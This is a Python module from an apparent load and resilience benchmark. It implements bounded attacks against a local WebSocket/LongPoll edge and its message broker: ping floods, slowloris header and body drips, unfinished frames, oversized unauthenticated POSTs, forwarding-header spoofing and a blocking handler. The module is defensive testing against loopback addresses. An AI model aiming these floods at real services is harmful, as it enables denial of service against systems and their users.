"""The attacks of bench/attack.py, one coroutine each, from attacker source addresses
127.0.0.2 and up (the canary is 127.0.0.1), against one edge at `Target`.

Each attack is bounded in count and time, closes every socket it opened before it returns
(also on an exception or a cancel), and returns what it observed itself:

    {"summary": "one line for the table", "ok": True/False/None (its own criterion, if any), ...}

The sizes come from the `o` options of bench/attack.py (see its --help).
"""
from __future__ import annotations

import asyncio
import collections
import json
import time
import urllib.parse
from dataclasses import dataclass

from wsraw import BINARY, PING, PhxClient, Sockets, frame, read_response, tcp_connect, ws_open

WS_PATH = "/socket/websocket?vsn=2.0.0&user=attacker"
LP_PATH = "/socket/longpoll?vsn=2.0.0"
MB = 1_000_000


@dataclass
class Target:
    host: str
    port: int
    bus: str                 # the broker's base endpoint tcp://127.0.0.1:P
    sources: int = 32        # attacker addresses 127.0.0.2 .. 127.0.0.(1 + sources)

    def source(self, i: int) -> str:
        return f"127.0.0.{2 + i % self.sources}"

    def sources_text(self, n: int) -> str:
        k = min(n, self.sources)
        return "127.0.0.2" if k == 1 else f"127.0.0.2-.{1 + k}"


async def gather_bounded(coros, limit: int):
    """Run coroutines with at most `limit` at a time; exceptions are returned, not raised."""
    sem = asyncio.Semaphore(limit)

    async def one(c):
        async with sem:
            return await c
    return await asyncio.gather(*(one(c) for c in coros), return_exceptions=True)


def why(exc: BaseException) -> str:
    return type(exc).__name__ if not str(exc) else f"{type(exc).__name__}: {str(exc)[:60]}"


# ---- 1, 2: ping floods -----------------------------------------------------------------------

async def ping_flood(t: Target, o, conns: int, read: bool) -> dict:
    """`conns` upgraded WebSockets each sending pings as fast as the edge takes them for
    o.flood_seconds; with `read`, each also reads (and drops) whatever comes back. With
    o.flood_reconnect, a connection the edge cut is opened again while the time lasts."""
    loop = asyncio.get_running_loop()
    socks = Sockets()
    burst = 256
    blob = frame(PING, b"p" * o.ping_size) * burst
    sent = [0] * conns
    got = [0] * conns
    cuts: list[float] = []
    refused: collections.Counter = collections.Counter()

    async def reader(i, sock):
        try:
            while chunk := await loop.sock_recv(sock, 1 << 16):
                got[i] += len(chunk)
        except OSError:
            pass

    async def flood_one(i, t0, end):
        while end - time.monotonic() > 0:
            try:
                sock, status, _ = await ws_open(socks, t.source(i), t.host, t.port, WS_PATH)
            except (OSError, asyncio.TimeoutError) as exc:
                refused[why(exc)] += 1
                return
            if status != 101:
                refused[f"HTTP {status}"] += 1
                return
            rd = asyncio.ensure_future(reader(i, sock)) if read else None
            try:
                while (left := end - time.monotonic()) > 0:
                    await asyncio.wait_for(loop.sock_sendall(sock, blob), left)
                    sent[i] += burst
            except asyncio.TimeoutError:
                pass
            except OSError:
                cuts.append(time.monotonic() - t0)
            finally:
                if rd is not None:
                    rd.cancel()
                    await asyncio.gather(rd, return_exceptions=True)
                socks.close(sock)
            if not o.flood_reconnect:
                return

    try:
        t0 = time.monotonic()
        await asyncio.gather(*(flood_one(i, t0, t0 + o.flood_seconds) for i in range(conns)))
    finally:
        socks.close_all()
    total = sum(sent)
    cut = f"cut by the edge {len(cuts)} time(s)" + (f" (first after {min(cuts):.1f} s)" if cuts else "")
    if o.flood_reconnect:
        cut += ", reconnecting each time"
    if refused:
        cut += "; upgrades refused: " + ", ".join(f"{k} x{v}" for k, v in refused.items())
    read_txt = f", {sum(got) / MB:.0f} MB of pongs read" if read else ", never read"
    return {"summary": f"{total / 1e6:.2f} M pings of {o.ping_size} B handed to the kernel over {o.flood_seconds:g} s from "
                       f"{t.sources_text(conns)}{read_txt}; {cut}",
            "ok": None, "pings_sent": total, "bytes_read": sum(got), "cuts_after_s": cuts,
            "refused": dict(refused)}


async def attack_ping_flood_unread(t: Target, o) -> dict:
    return await ping_flood(t, o, 1, read=False)


async def attack_ping_flood_read(t: Target, o) -> dict:
    return await ping_flood(t, o, o.flood_readers, read=True)


# ---- 3: big LongPoll POSTs without a session -------------------------------------------------

async def attack_longpoll_posts(t: Target, o) -> dict:
    """o.lp_posts POSTs of o.lp_body_mb MB each to /socket/longpoll, all at once, without a
    session token; was each answered before its body was sent, and with what?"""
    loop = asyncio.get_running_loop()
    socks = Sockets()
    size = int(o.lp_body_mb * MB)
    body = memoryview(b'["' + b"a" * (size - 4) + b'"]')
    head = (f"POST {LP_PATH} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {size}\r\n\r\n").encode()

    async def one(i):
        sock = await tcp_connect(socks, t.source(i), t.host, t.port)
        answer = asyncio.ensure_future(asyncio.wait_for(read_response(sock), o.lp_timeout))
        await loop.sock_sendall(sock, head)
        sent = 0
        try:
            while sent < size and not answer.done():
                await loop.sock_sendall(sock, body[sent:sent + 262144])
                sent += min(262144, size - sent)
        except OSError:
            pass   # cut off: the answer (if any) tells why
        try:
            status, answered = lp_status(*(await answer)), True
        except (OSError, asyncio.TimeoutError) as exc:
            status, answered = why(exc), False
        socks.close(sock)
        return {"status": status, "early": answered and sent < size, "cut": not answered and sent < size,
                "sent": sent}

    try:
        results = await asyncio.gather(*(one(i) for i in range(o.lp_posts)), return_exceptions=True)
    finally:
        socks.close_all()
    statuses = collections.Counter(r["status"] if isinstance(r, dict) else why(r) for r in results)
    early = sum(1 for r in results if isinstance(r, dict) and r["early"])
    cut = sum(1 for r in results if isinstance(r, dict) and r["cut"])
    body_mb = sum(r["sent"] for r in results if isinstance(r, dict)) / MB
    st = ", ".join(f"{k} x{v}" for k, v in statuses.most_common())
    return {"summary": f"{o.lp_posts} x {o.lp_body_mb:g} MB: {st}; {early} answered before the whole body was "
                       f"sent" + (f", {cut} cut off unanswered" if cut else "") + f"; {body_mb:.0f} MB of body sent",
            "ok": early + cut == o.lp_posts, "statuses": dict(statuses), "answered_early": early,
            "cut_unanswered": cut, "body_mb_sent": body_mb}


def lp_status(http: int, body: bytes) -> str:
    """Phoenix's LongPoll answers HTTP 200 with the outcome in the JSON body: {"status": 410}."""
    try:
        inner = json.loads(body).get("status")
    except (ValueError, AttributeError):
        inner = None
    return f"HTTP {http}" + (f" status {inner}" if inner is not None else "")


# ---- 4: slowloris ---------------------------------------------------------------------------

async def slow_connections(t: Target, o, n: int, seconds: float, first, drip, interval: float) -> dict:
    """n connections that send `await first(i)`, then drip(k) every `interval` s; each watched
    for `seconds` from its own open: did the edge close it (EOF, reset, or an answer) by then?"""
    loop = asyncio.get_running_loop()
    socks = Sockets()
    opened: dict[int, float] = {}
    closed: dict[int, float] = {}
    answers: collections.Counter = collections.Counter()
    failed: collections.Counter = collections.Counter()

    async def open_one(i):
        try:
            head = await first(i)
            sock = await tcp_connect(socks, t.source(i), t.host, t.port)
            await loop.sock_sendall(sock, head)
        except (OSError, asyncio.TimeoutError) as exc:
            failed[why(exc)] += 1
            return None
        opened[i] = time.monotonic()
        return sock

    async def watch(i, sock):
        try:
            data = await loop.sock_recv(sock, 4096)
            if data.startswith(b"HTTP/"):
                answers[data.split(b" ", 2)[1].decode(errors="replace")] += 1
        except OSError:
            pass
        closed[i] = time.monotonic()

    async def dripper(i, sock, end):
        k = 0
        while (left := end - time.monotonic()) > 0 and i not in closed:
            await asyncio.sleep(min(interval, left))
            if i in closed or time.monotonic() >= end:
                return
            try:
                await asyncio.wait_for(loop.sock_sendall(sock, drip(k)), 2)
            except (OSError, asyncio.TimeoutError):
                return   # the watcher sees the close
            k += 1

    try:
        socks_by_i = await gather_bounded((open_one(i) for i in range(n)), o.open_concurrency)
        live = {i: s for i, s in enumerate(socks_by_i) if s is not None and not isinstance(s, BaseException)}
        watchers = [asyncio.ensure_future(watch(i, s)) for i, s in live.items()]
        end = max(opened.values(), default=time.monotonic()) + seconds
        await asyncio.gather(*(dripper(i, s, opened[i] + seconds) for i, s in live.items()))
        await asyncio.sleep(max(0.0, end - time.monotonic()))
        for w in watchers:
            w.cancel()
        await asyncio.gather(*watchers, return_exceptions=True)
    finally:
        socks.close_all()
    in_time = sum(1 for i, c in closed.items() if c - opened[i] <= seconds + 0.5)
    # A connection the edge refused to take (connect timed out or was reset) is not held either.
    refused = sum(failed.values())
    share = (in_time + refused) / n if n else 0.0
    first_close = min((c - opened[i] for i, c in closed.items()), default=None)
    ans = ", ".join(f"{k} x{v}" for k, v in answers.most_common()) or "none"
    text = (f"{n} from {t.sources_text(n)}: {len(live)} opened, {in_time} closed by the edge within {seconds:g} s"
            + (f" (first after {first_close:.1f} s)" if first_close is not None else "")
            + (f", {refused} refused ({', '.join(f'{k} x{v}' for k, v in failed.items())})" if refused else "")
            + f": {share:.0%} closed or refused; answers: {ans}")
    return {"summary": text, "ok": share >= 0.95, "opened": len(live), "closed_in_time": in_time,
            "closed_share": share, "answers": dict(answers), "open_failed": dict(failed)}


async def attack_slowloris_headers(t: Target, o) -> dict:
    """WebSocket upgrades whose header lines come one every o.slowloris_interval s."""
    head = f"GET {WS_PATH} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\n".encode()

    async def first(i):
        return head
    return await slow_connections(t, o, o.slowloris_conns, o.slowloris_seconds, first,
                                  lambda k: f"X-Slow-{k}: {k}\r\n".encode(), o.slowloris_interval)


async def attack_slowloris_bodies(t: Target, o) -> dict:
    """LongPoll POSTs announcing o.slowbody_mb MB and sending o.slowbody_rate bytes a second,
    each with the token of a session of its own (a GET first), so that an edge checking the
    token before the body still has to take the body."""
    size = int(o.slowbody_mb * MB)
    socks = Sockets()
    no_token = collections.Counter()

    async def first(i):
        token = None
        try:
            sock = await tcp_connect(socks, t.source(i), t.host, t.port)
            try:
                req = f"GET {LP_PATH}&user=attacker HTTP/1.1\r\nHost: {t.host}:{t.port}\r\n\r\n".encode()
                await asyncio.get_running_loop().sock_sendall(sock, req)
                _, body = await asyncio.wait_for(read_response(sock), 10)
                token = json.loads(body).get("token")
            finally:
                socks.close(sock)
        except (OSError, ValueError, AttributeError, asyncio.TimeoutError) as exc:
            no_token[why(exc)] += 1
        query = LP_PATH + (f"&token={urllib.parse.quote(token)}" if token else "")
        return (f"POST {query} HTTP/1.1\r\nHost: {t.host}:{t.port}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {size}\r\n\r\n[").encode()

    chunk = b"a" * max(1, int(o.slowbody_rate))
    try:
        res = await slow_connections(t, o, o.slowbody_conns, o.slowbody_seconds, first, lambda k: chunk, 1.0)
    finally:
        socks.close_all()
    if no_token:
        res["summary"] += f"; sent without a session token: {sum(no_token.values())} ({dict(no_token)})"
        res["no_token"] = dict(no_token)
    return res


# ---- 5: unfinished frames -------------------------------------------------------------------

async def attack_unfinished_frames(t: Target, o) -> dict:
    """o.frames_rounds times: o.frames_conns upgraded WebSockets each send a binary frame header
    announcing o.frame_size bytes and o.frame_sent_share of its payload, never the rest; then
    all of them close."""
    loop = asyncio.get_running_loop()
    data = frame(BINARY, b"\0" * int(o.frame_size * o.frame_sent_share), length=o.frame_size)
    upgraded = refused = cut = 0
    bytes_sent = 0
    for _ in range(o.frames_rounds):
        socks = Sockets()

        async def one(i):
            sock, status, _ = await ws_open(socks, t.source(i), t.host, t.port, WS_PATH)
            if status != 101:
                return "refused"
            try:
                await asyncio.wait_for(loop.sock_sendall(sock, data), 30)
            except (OSError, asyncio.TimeoutError):
                return "cut"
            return "sent"

        try:
            res = await gather_bounded((one(i) for i in range(o.frames_conns)), o.open_concurrency)
        finally:
            socks.close_all()
        c = collections.Counter(r if isinstance(r, str) else "failed" for r in res)
        upgraded += c["sent"] + c["cut"]
        refused += c["refused"] + c["failed"]
        cut += c["cut"]
        bytes_sent += c["sent"] * len(data)
        await asyncio.sleep(0.5)
    return {"summary": f"{o.frames_rounds} x {o.frames_conns} frames announcing {o.frame_size / 2**20:g} MiB, "
                       f"{o.frame_sent_share:.0%} sent ({bytes_sent / MB:.0f} MB in all), from "
                       f"{t.sources_text(o.frames_conns)}; upgrades refused/failed {refused}, cut mid-frame {cut}",
            "ok": None, "upgraded": upgraded, "refused": refused, "cut": cut, "bytes_sent": bytes_sent}


# ---- 6: forwarding headers ------------------------------------------------------------------

async def attack_forwarded_headers(t: Target, o) -> dict:
    """A client sending X-Forwarded-For: 7.7.7.7 and X-Scheme: https; does connect_info (as the
    probe:* channel of bench/attack_app.py reports it) believe them?"""
    socks = Sockets()
    try:
        c = await PhxClient.open(socks, t.source(0), t.host, t.port, "user=spoofer",
                                 {"X-Forwarded-For": "7.7.7.7", "X-Scheme": "https"})
        if c.status != 101:
            return {"summary": f"upgrade refused ({c.status})", "ok": None}
        _, rep = await c.join("probe:1", {}, timeout=10)
    finally:
        socks.close_all()
    peer = (rep.get("response") or {}).get("peer") or {}
    address, scheme = peer.get("address"), peer.get("scheme")
    believed = address == "7.7.7.7" or scheme == "https"
    return {"summary": f"connect_info: address {address}, scheme {scheme} (socket peer {t.source(0)}, http): "
                       + ("forwarding headers BELIEVED" if believed else "forwarding headers ignored"),
            "ok": not believed, "believed": believed, "peer": peer}


# ---- 7: one huge bus message ----------------------------------------------------------------

async def attack_bus_message(t: Target, o) -> dict:
    """A raw PUB on the broker's publish-in endpoint sends one o.bus_mb MB broadcast to a topic
    that a raw SUB of ours (on subscribe-out) subscribed to, so the broker has to take it."""
    return await asyncio.get_running_loop().run_in_executor(None, _bus_message, t, o)


def _bus_message(t: Target, o) -> dict:
    import zmq
    from zchannels.bus import wire
    _, pub_in, sub_out = wire.bus_endpoints(t.bus)
    topic = "attack:bus"
    ctx = zmq.Context()
    try:
        sub = ctx.socket(zmq.SUB)
        sub.setsockopt(zmq.LINGER, 0)
        sub.setsockopt(zmq.RCVTIMEO, 200)
        sub.connect(sub_out)
        sub.setsockopt(zmq.SUBSCRIBE, wire.topic_key(topic))
        pub = ctx.socket(zmq.PUB)
        pub.setsockopt(zmq.LINGER, 0)
        pub.connect(pub_in)
        small = wire.pack_broadcast(wire.broadcast_frames(topic, "probe", b"{}"))
        deadline = time.monotonic() + 10
        through = False
        while time.monotonic() < deadline and not through:   # until our subscription reached the PUB
            pub.send(small)
            try:
                through = sub.recv() == small
            except zmq.Again:
                pass
        if not through:
            return {"summary": "subscription never reached the publisher (10 s)", "ok": None}
        big = wire.pack_broadcast(wire.broadcast_frames(topic, "big", b"x" * int(o.bus_mb * MB)))
        t0 = time.monotonic()
        pub.send(big, copy=False)
        del big
        sub.setsockopt(zmq.RCVTIMEO, int(o.bus_timeout * 1000))
        try:
            n = len(sub.recv(copy=False))
            got = f"it came back through the broker after {time.monotonic() - t0:.1f} s ({n / MB:.0f} MB)"
            delivered = True
        except zmq.Again:
            got = f"the broker did not pass it on within {o.bus_timeout:g} s"
            delivered = False
        return {"summary": f"one {o.bus_mb:g} MB broadcast from a raw PUB: {got}", "ok": not delivered,
                "delivered": delivered}
    finally:
        ctx.destroy(linger=0)


# ---- 8: a blocking handler ------------------------------------------------------------------

async def attack_blocking_handler(t: Target, o) -> dict:
    """One client's push makes its worker time.sleep(o.block_seconds) (block:* of
    bench/attack_app.py); meanwhile a fresh client connects and joins room:lobby every
    o.joiner_interval s (from 127.0.1.x: they are bystanders, not attackers)."""
    socks = Sockets()
    results: list[dict] = []

    async def joiner(k):
        t0 = time.monotonic()
        at = t0 - t_block
        src = f"127.0.1.{1 + k % 250}"
        try:
            c = await PhxClient.open(socks, src, t.host, t.port, "user=bystander", timeout=o.join_timeout)
            if c.status != 101:
                results.append({"ok": False, "why": f"HTTP {c.status}", "s": time.monotonic() - t0, "at": at})
                return
            _, rep = await c.join("room:lobby", {}, timeout=max(0.1, o.join_timeout - (time.monotonic() - t0)))
            ok = rep.get("status") == "ok"
            results.append({"ok": ok, "why": None if ok else f"join {rep}", "s": time.monotonic() - t0, "at": at})
            socks.close(c.sock)
        except (OSError, asyncio.TimeoutError, TimeoutError) as exc:
            results.append({"ok": False, "why": why(exc), "s": time.monotonic() - t0, "at": at})

    try:
        blocker = await PhxClient.open(socks, t.source(0), t.host, t.port, "user=blocker")
        join_ref, _ = await blocker.join("block:1", {}, timeout=10)
        t_block = time.monotonic()
        sleep_ref = await blocker.push("block:1", "sleep", {"s": o.block_seconds}, join_ref=join_ref)

        async def unblocked():
            try:
                await blocker.reply(sleep_ref, o.block_seconds + 15)
                return time.monotonic() - t_block
            except (OSError, TimeoutError, asyncio.TimeoutError):
                return None
        blocked = asyncio.ensure_future(unblocked())
        tasks = []
        k = 0
        while time.monotonic() - t_block < o.block_seconds + 2:
            tasks.append(asyncio.ensure_future(joiner(k)))
            k += 1
            await asyncio.sleep(o.joiner_interval)
        blocked_for = await blocked
        await asyncio.gather(*tasks, return_exceptions=True)
    finally:
        socks.close_all()
    failed = [r for r in results if not r["ok"]]
    whys = collections.Counter(r["why"] for r in failed)
    slow = sum(1 for r in results if r["s"] > 1.0)
    slowest = max((r["s"] for r in results), default=0.0)
    bl = f"worker blocked {blocked_for:.1f} s" if blocked_for is not None else "no reply from the blocked handler"
    fails = ", ".join(f"{k} x{v}" for k, v in whys.most_common())
    if failed:   # when, after the block began: placements in the first second or two are the hard ones
        fails += "; started at +" + ", +".join(f"{r['at']:.1f}" for r in sorted(failed, key=lambda r: r["at"])[:8]) + " s"
    slow_at = sorted(r["at"] for r in results if r["s"] > 1.0)
    return {"summary": f"{bl}; {len(results)} fresh connect+join meanwhile: {len(failed)} failed"
                       + (f" ({fails})" if fails else "") + f", {slow} took > 1 s" + (f" (started at +{slow_at[0]:.1f} to +{slow_at[-1]:.1f} s)" if slow_at else "")
                       + f", slowest {slowest:.1f} s",
            "ok": not failed, "attempted": len(results), "failed": len(failed), "failed_why": dict(whys),
            "slower_than_1s": slow, "slowest_s": slowest}


ATTACKS = {
    "1": ("ping flood, 1 conn never reading", attack_ping_flood_unread),
    "2": ("ping flood, conns reading", attack_ping_flood_read),
    "3": ("big LongPoll POSTs, no session", attack_longpoll_posts),
    "4a": ("slowloris: header lines", attack_slowloris_headers),
    "4b": ("slowloris: slow bodies", attack_slowloris_bodies),
    "5": ("unfinished 1 MiB frames", attack_unfinished_frames),
    "6": ("X-Forwarded-For / X-Scheme", attack_forwarded_headers),
    "7": ("one huge bus message", attack_bus_message),
    "8": ("a handler that blocks", attack_blocking_handler),
}
